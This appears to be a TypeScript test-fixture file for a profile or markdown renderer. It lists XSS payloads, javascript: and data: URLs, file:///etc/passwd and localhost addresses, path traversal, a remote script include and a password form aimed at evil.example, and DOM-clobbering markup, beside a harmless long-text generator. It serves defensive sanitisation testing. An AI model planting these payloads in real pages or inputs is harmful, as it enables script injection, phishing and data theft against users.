/** What a hostile profile may hold in any text. */
export const TEXT_PAYLOADS = [
  '<script>alert(document.domain)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</style><svg onload=alert(1)>',
  '</title><script src=//evil.example></script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<!--<script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  ']]><x/>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '![x](https://evil.example/pixel.gif)',
  '\u202Etxet desrever\u202C',
  'zero\u200Bwidth\u0000null\u0007bell',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '\u2028line\u2029paragraph',
] as const;

/** What may stand where an address is expected. */
export const ADDRESS_PAYLOADS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/pixel.gif',
  'https://user:secret@evil.example/',
  'https://evil.example/"onclick="alert(1)',
  'file:///etc/passwd',
  'http://127.0.0.1:22/',
  'https://[::1]/',
  'sample:../../package.json',
  'not an address',
  '',
] as const;

export const HOSTILE_README = `# Hello <script>alert(1)</script>

<img src="x" onerror="alert(1)"> <svg/onload=alert(1)> <style>*{display:none}</style>

[a script](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [protocol-relative](//evil.example) [a good link](https://good.example/path?a=1&b=2 "title")

<https://auto.example> <javascript:alert(1)> https://bare.example/x and mail@person.example

![relative picture](./images/diagram.png) ![far picture](https://pictures.example/a.png) ![data picture](data:image/svg+xml,<svg/onload=alert(1)>)

| left | right | a very long cell that wants to be wider than the page it is on, and is not allowed to be |
| :--- | ---: | --- |
| \`code | pipe\` | 1,234 | <b onclick="alert(1)">bold</b> |
| a | b | c |

\`\`\`html
<script>alert("shown, not run")</script>
${'x'.repeat(400)}
\`\`\`

- [ ] open
- [x] done
  - nested
    1. deeper
       > quoted

Term[^1] with ~~struck~~ **bold *both*** and \`<code>\`.

[^1]: A note with [a script](javascript:alert(1)).

###### Smallest heading
####### Not a heading

---

<details open ontoggle="alert(1)"><summary>More</summary>

Hidden text.

</details>

<form action="https://evil.example"><input name="password"></form>
<a href="https://good.example" style="position:fixed;inset:0" id="main" class="page">over everything</a>
<h1 id="__proto__">clobber</h1><a name="createElement"></a>
`;

const SENTENCES = [
  'I began as an apprentice in a workshop that repaired scales.',
  'A scale is a promise between two people who do not trust each other.',
  'Most of what I know about software I learned from brass.',
  'When a reading is wrong, the fault is nearly always in the question.',
  'For six years I kept the instruments of a weather station above the tree line.',
  'We had one visitor a month, and he came for the salt.',
  'Then the road was built, and the station was replaced by a box.',
  'The box was better than I had been, and I went to find out why.',
  'I have worked on boxes since.',
  'Some of them count rain, some count people, and one counts the lorries that cross a bridge which was never meant for lorries.',
  'What they share is that somebody will act on the number at three in the morning.',
];

/** A text of exactly so many words, in paragraphs. */
export function longText(words: number): string {
  const taken: string[] = [];
  for (let index = 0; taken.length < words; index += 1) {
    const sentence = SENTENCES[index % SENTENCES.length] ?? '';
    taken.push(
      ...sentence
        .split(' ')
        .map((word, place, all) => (place === all.length - 1 && index % 5 === 4 ? `${word}\n\n` : word)),
    );
  }
  return taken.slice(0, words).join(' ').replaceAll('\n\n ', '\n\n').trim();
}
